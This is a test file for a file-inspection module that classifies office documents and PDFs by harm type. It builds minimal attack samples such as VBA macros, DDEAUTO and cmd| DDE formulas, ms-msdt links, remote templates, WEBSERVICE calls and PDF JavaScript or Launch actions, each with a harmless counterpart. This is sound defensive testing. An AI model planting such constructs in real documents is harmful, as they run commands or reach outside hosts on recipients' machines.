"""Every file is judged by its structure: each attack as it is built, and its harmless brother."""

import struct
import zipfile
from io import BytesIO

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference

from core.publishing.files.inspection.judge import judge
from core.publishing.files.inspection.verdict import Harm
from core.tables.read import read_catalogs
from core.tables.writing.layout import EffectiveTable
from core.tables.writing.write import write_table
from tests.publishing.files.attack_samples import (
    EMPTY_WORD,
    biff,
    change,
    ole,
    open_document,
    override,
    pdf_with,
    relation,
    workbook_stream,
)
from tests.publishing.files.file_samples import archive, ofd, pdf, word, workbook

WORD_RELS = "word/_rels/document.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MACRO_TYPE = "application/vnd.ms-office.vbaProject"
EXECUTABLE = b"MZ\x90\0" + b"\0" * 100 + b"This program cannot be run in DOS mode" + b"\0" * 64


def harm(data):
    return judge(data).harm


def body(xml):
    """A document whose one paragraph holds this."""
    with zipfile.ZipFile(BytesIO(word("甲"))) as package:
        document = package.read("word/document.xml").decode()
    return change(word("甲"), {"word/document.xml": document.replace("</w:p>", f"{xml}</w:p>", 1)})


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    return f"{begin}{runs}{end}"


def sheet(xml):
    data = workbook(表=[[1]])
    with zipfile.ZipFile(BytesIO(data)) as package:
        part = package.read("xl/worksheets/sheet1.xml").decode()
    return change(data, {"xl/worksheets/sheet1.xml": part.replace("<v>1</v>", xml)})


WORD_ATTACKS = {
    "macros": (
        Harm.MACRO,
        change(
            word("甲"),
            {"word/vbaProject.bin": ole({"VBA/dir": b"x"})},
            types=override("word/vbaProject.bin", MACRO_TYPE),
        ),
    ),
    "macros renamed": (
        Harm.MACRO,
        change(
            word("甲"),
            {"word/media/image1.png": ole({"VBA/dir": b"x"})},
            types=override("word/media/image1.png", MACRO_TYPE),
        ),
    ),
    "macros by relation": (
        Harm.MACRO,
        change(
            word("甲"),
            {"word/data.xml": "<a/>"},
            relations={WORD_RELS: relation("vbaProject", "data.xml")},
        ),
    ),
    "macros undeclared": (
        Harm.MACRO,
        change(word("甲"), {"word/media/image1.png": ole({"VBA/dir": b"x"})}),
    ),
    "object": (
        Harm.EMBEDDED,
        change(word("甲"), {"word/embeddings/o.jpg": ole({"Contents": b"x"})}),
    ),
    "object element": (Harm.EMBEDDED, body("<w:r><w:object/></w:r>")),
    "page inside": (
        Harm.EMBEDDED,
        change(
            word("甲"),
            {"word/p.xml": "<a/>"},
            relations={WORD_RELS: relation("aFChunk", "p.xml")},
        ),
    ),
    "page type": (
        Harm.UNKNOWN_PART,
        change(word("甲"), {"word/p.dat": "<p/>"}, types=override("word/p.dat", "text/html")),
    ),
    "frame": (
        Harm.OUTSIDE,
        change(
            word("甲"),
            {},
            relations={
                "word/_rels/webSettings.xml.rels": relation("frame", "//h/x", external=True)
            },
        ),
    ),
    "template": (
        Harm.OUTSIDE,
        change(
            word("甲"),
            {},
            relations={
                SETTINGS_RELS: relation("attachedTemplate", "http://h/t.dotm", external=True)
            },
        ),
    ),
    "template of a share": (
        Harm.OUTSIDE,
        change(
            word("甲"),
            {},
            relations={
                SETTINGS_RELS: relation(
                    "attachedTemplate", r"file:///\\h\c:\normal.dotm", external=True
                )
            },
        ),
    ),
    "picture elsewhere": (
        Harm.OUTSIDE,
        change(
            word("甲"),
            {},
            relations={WORD_RELS: relation("image", "http://h/a.png", external=True)},
        ),
    ),
    "running link": (
        Harm.SCRIPT,
        change(
            word("甲"),
            {},
            relations={WORD_RELS: relation("hyperlink", "ms-msdt:/id", external=True)},
        ),
    ),
    "field": (Harm.DDE, body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))),
    "field in pieces": (Harm.DDE, body(field("D", "D", "EAUTO", " cmd"))),
    "simple field": (Harm.DDE, body('<w:fldSimple w:instr="dde cmd"/>')),
    "program": (Harm.PROGRAM, change(word("甲"), {"word/media/image1.png": EXECUTABLE})),
    "program by name": (Harm.PROGRAM, change(word("甲"), {"docProps/a.exe": b"x"})),
    "entity": (
        Harm.BROKEN,
        change(word("甲"), {"word/p.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}),
    ),
}
SHEET_ATTACKS = {
    "macro sheet": (
        Harm.MACRO,
        change(
            workbook(表=[[1]]),
            {"xl/worksheets/sheet2.xml": "<a/>"},
            types=override("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ),
    ),
    "macro sheet renamed": (
        Harm.MACRO,
        change(
            workbook(表=[[1]]),
            {
                "xl/worksheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com'
                '/office/excel/2006/main"/>'
            },
        ),
    ),
    "formula": (Harm.DDE, sheet("<f>cmd|'/C calc'!A0</f>")),
    "formula behind a product": (Harm.DDE, sheet("<f>SUM(1+9)*cmd|'/C calc'!A0</f>")),
    "web formula": (Harm.OUTSIDE, sheet('<f>_xlfn.WEBSERVICE("http://h/"&amp;A2)</f>')),
    "other workbook": (
        Harm.OUTSIDE,
        change(
            workbook(表=[[1]]),
            {"xl/externalLinks/externalLink1.xml": "<externalLink/>"},
            types=override(
                "xl/externalLinks/externalLink1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            ),
        ),
    ),
    "asked program": (
        Harm.DDE,
        change(workbook(表=[[1]]), {"xl/b.xml": '<a><ddeLink ddeService="cmd"/></a>'}),
    ),
    "asked database": (
        Harm.OUTSIDE,
        change(workbook(表=[[1]]), {"xl/connections.xml": "<connections><webPr/></connections>"}),
    ),
}


def with_template(path):
    """An old document that keeps the path of its template."""
    texts = b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in ("", path))
    head = bytearray(EMPTY_WORD)
    head[11] |= 0x02
    head[0x19A:0x1A2] = struct.pack("<LL", 8, len(texts) + 6)
    table = b"\0" * 8 + b"\xff\xff" + struct.pack("<HH", 2, 0) + texts
    return ole({"WordDocument": bytes(head), "1Table": table})


OLD_ATTACKS = {
    "word macros": (Harm.MACRO, ole({"WordDocument": EMPTY_WORD, "Macros/VBA/dir": b"x"})),
    "excel macros": (
        Harm.MACRO,
        ole({"Workbook": workbook_stream(), "_VBA_PROJECT_CUR/VBA/dir": b"x"}),
    ),
    "objects": (Harm.EMBEDDED, ole({"WordDocument": EMPTY_WORD, "ObjectPool/_1/\x01Ole": b"x"})),
    "object of excel": (
        Harm.EMBEDDED,
        ole({"Workbook": workbook_stream(), "MBD0012AB/Package": b"x"}),
    ),
    "field": (
        Harm.DDE,
        ole({"WordDocument": EMPTY_WORD + "\x13 DDEAUTO cmd".encode("utf-16-le")}),
    ),
    "macro sheet": (Harm.MACRO, ole({"Workbook": workbook_stream(kind=1)})),
    "asked program": (
        Harm.DDE,
        ole({"Workbook": workbook_stream(biff(0x1AE, b"\x01\0\x09\0\0cmd\x03/C dir"))}),
    ),
    "other workbook": (
        Harm.OUTSIDE,
        ole({"Workbook": workbook_stream(biff(0x1AE, b"\x01\0\x06\0\0\x01a.xls"))}),
    ),
    "controls": (Harm.EMBEDDED, ole({"Workbook": workbook_stream(), "Ctls": b"x"})),
    "template": (Harm.OUTSIDE, with_template("https://h/t.dot")),
    "password": (Harm.ENCRYPTED, ole({"Workbook": workbook_stream(biff(0x2F, b"\0" * 6))})),
    "new with a password": (Harm.ENCRYPTED, ole({"EncryptedPackage": b"x"})),
    "appended": (Harm.APPENDED, ole({"Workbook": workbook_stream()}) + EXECUTABLE),
}
TEXT = "<office:body><office:text>{}</office:text></office:body>"
OPEN_ATTACKS = {
    "macros": (
        Harm.MACRO,
        open_document("text", TEXT, Basic__Standard__Module1_xml="<a/>"),
    ),
    "event": (
        Harm.MACRO,
        open_document("text", TEXT.format('<script:event-listener script:language="x"/>')),
    ),
    "running link": (
        Harm.MACRO,
        open_document("text", TEXT.format('<text:a xlink:href="vnd.sun.star.script:x"/>')),
    ),
    "object": (Harm.EMBEDDED, open_document("text", TEXT.format("<draw:object-ole/>"))),
    "frame": (Harm.OUTSIDE, open_document("text", TEXT.format("<draw:floating-frame/>"))),
    "picture elsewhere": (
        Harm.OUTSIDE,
        open_document("text", TEXT.format('<draw:image xlink:href="http://h/a.png"/>')),
    ),
    "asked program": (
        Harm.DDE,
        open_document("spreadsheet", TEXT.format('<table:table-cell table:formula="of:=DDE(1)"/>')),
    ),
    "program": (Harm.PROGRAM, open_document("text", TEXT, Pictures__a=EXECUTABLE)),
    "unknown part": (Harm.UNKNOWN_PART, open_document("text", TEXT, other__a=b"x")),
}
RICH_ATTACKS = {
    "object": (Harm.EMBEDDED, rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    "field": (Harm.DDE, rb"{\rtf1{\field{\*\fldinst { DDEAUTO cmd}}}}"),
    "field in codes": (Harm.DDE, rb"{\rtf1{\field{\*\fldinst \u68?\u68?\u69? cmd}}}"),
    "template": (Harm.OUTSIDE, rb"{\rtf1{\*\template http://h/t.dotm}}"),
    "appended": (Harm.APPENDED, rb"{\rtf1 a}" + EXECUTABLE),
}
PDF_ATTACKS = {
    "script": (Harm.SCRIPT, pdf_with("<</S /JavaScript /JS (app.alert(1))>>")),
    "escaped": (
        Harm.SCRIPT,
        pdf_with("<</S /JavaScript /JS (1)>>")
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS ", b"/#4AS "),
    ),
    "in a stream": (Harm.SCRIPT, pdf_with(packed=["<</S /JavaScript /JS (1)>>"])),
    "launch": (Harm.SCRIPT, pdf_with("<</S /Launch /F (cmd.exe)>>")),
    "opened": (Harm.SCRIPT, pdf_with(catalog="/OpenAction <</S /URI /URI (http://h)>>")),
    "turned to": (Harm.SCRIPT, pdf_with("<</AA <</O <</S /URI /URI (http://h)>>>>>>")),
    "embedded": (Harm.EMBEDDED, pdf_with("<</Type /Filespec /EF <</F null /UF (a)>>>>")),
    "running link": (Harm.SCRIPT, pdf_with("<</S /URI /URI (javascript:app.alert\\(1\\))>>")),
    "form": (Harm.FORM, pdf_with(catalog="/AcroForm <</XFA (x)>>")),
    "appended": (Harm.APPENDED, pdf_with() + EXECUTABLE),
    "archive too": (Harm.APPENDED, pdf_with() + archive({"a": "b"})),
}


def cases(**kinds):
    return [
        pytest.param(expected, data, id=f"{kind}-{name.replace(' ', '-')}")
        for kind, attacks in kinds.items()
        for name, (expected, data) in attacks.items()
    ]


@pytest.mark.parametrize(
    ("expected", "data"),
    cases(
        word=WORD_ATTACKS,
        sheet=SHEET_ATTACKS,
        old=OLD_ATTACKS,
        open=OPEN_ATTACKS,
        rich=RICH_ATTACKS,
        pdf=PDF_ATTACKS,
    ),
)
def test_each_attack_is_refused_for_what_it_is(expected, data):
    assert harm(data) is expected


@pytest.mark.parametrize("data", [word("甲"), workbook(表=[[1]]), ofd(["甲"])], ids=["w", "x", "o"])
def test_nothing_stands_before_between_or_after_the_parts(data):
    start = zipfile.ZipFile(BytesIO(data)).start_dir
    assert harm(data) is None
    assert harm(data + EXECUTABLE) is Harm.APPENDED
    assert harm(archive({"x": "y"}) + data) is Harm.APPENDED
    assert harm(data[:start] + EXECUTABLE + data[start:]) is not None
    with zipfile.ZipFile(BytesIO(data)) as package:
        twice = [(name, package.read(name)) for name in package.namelist()]
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, part in [*twice, (twice[0][0].upper() + "", b"x")]:
            package.writestr(name, part)
    assert harm(buffer.getvalue()) is not None


def chart():
    book = openpyxl.Workbook()
    book.active.append(["甲", 1])
    bars = BarChart()
    bars.add_data(Reference(book.active, min_col=2, min_row=1))
    book.active.add_chart(bars, "C3")
    book.active["A9"] = '=A1&"|"&B1'
    book.active["A9"].hyperlink = "https://www.gov.cn/"
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


HARMLESS = {
    "chart, link, bar in a formula": ("xlsx", chart()),
    "own template": (
        "docx",
        change(
            word("甲"),
            {},
            relations={
                SETTINGS_RELS: relation(
                    "attachedTemplate",
                    "file:///C:\\Users\\a\\AppData\\Roaming\\Kingsoft\\wps\\Normal.dotm",
                    external=True,
                )
            },
        ),
    ),
    "field of a page": ("docx", body(field(" PAGE  \\* MERGEFORMAT "))),
    "workbook in a document": (
        "docx",
        change(
            word("甲"),
            {"word/embeddings/Sheet1.xlsx": workbook(表=[[1]])},
            types=override(
                "word/embeddings/Sheet1.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ),
        ),
    ),
    "for macros, without any": (
        "xlsm",
        change(
            workbook(表=[[1]]),
            {},
            types=override(
                "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            ),
        ),
    ),
    "tick boxes of a sheet": (
        "xlsx",
        change(workbook(表=[[1]]), {"xl/c.xml": '<controls><control shapeId="1"/></controls>'}),
    ),
    "own template of an old document": ("doc", with_template("C:\\\\wps\\\\Normal.dot")),
    "empty pool": ("doc", ole({"WordDocument": EMPTY_WORD, "ObjectPool": None})),
    "own book": ("xls", ole({"Workbook": workbook_stream(biff(0x1AE, b"\x01\0\x01\x04"))})),
    "link in a text": (
        "odt",
        open_document("text", TEXT.format('<text:a xlink:href="https://www.gov.cn/"/>')),
    ),
    "empty list of macros": (
        "ods",
        open_document("spreadsheet", TEXT, **{"Basic__script-lc.xml": "<libraries/>"}),
    ),
    "rich text": ("rtf", rb"{\rtf1{\field{\*\fldinst HYPERLINK https://www.gov.cn}}}" + b"\0\r\n"),
    "page turned to": ("pdf", pdf_with(catalog="/OpenAction <</S /GoTo /D (a)>>")),
    "link": ("pdf", pdf_with("<</S /URI /URI (https://www.gov.cn/)>>")),
    "plain": ("pdf", pdf("低保")),
}


@pytest.mark.parametrize(("kind", "data"), HARMLESS.values(), ids=HARMLESS)
def test_harmless_brothers_are_taken(kind, data):
    verdict = judge(data)
    assert (verdict.kind, verdict.harm) == (kind, None)


def test_every_document_of_the_shared_data_is_taken(shared_data):
    endings = {".xlsx", ".docx", ".pdf", ".xls", ".et", ".ods", ".doc", ".wps", ".odt", ".rtf"}
    found = [path for path in shared_data.rglob("*") if path.suffix in endings]
    assert len(found) > 10
    for path in found:
        assert judge(path.read_bytes()).harm is None, path.name


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_tables_as_we_write_them_are_taken(kind, shared_data):
    path = shared_data / "messy" / "X_shehui_jiuzhu.xlsx"
    (read,) = read_catalogs(path.read_bytes(), path.name).catalogs
    written = write_table([EffectiveTable(read.title, read.domain, read.rows)], kind)
    assert judge(written).kind == kind
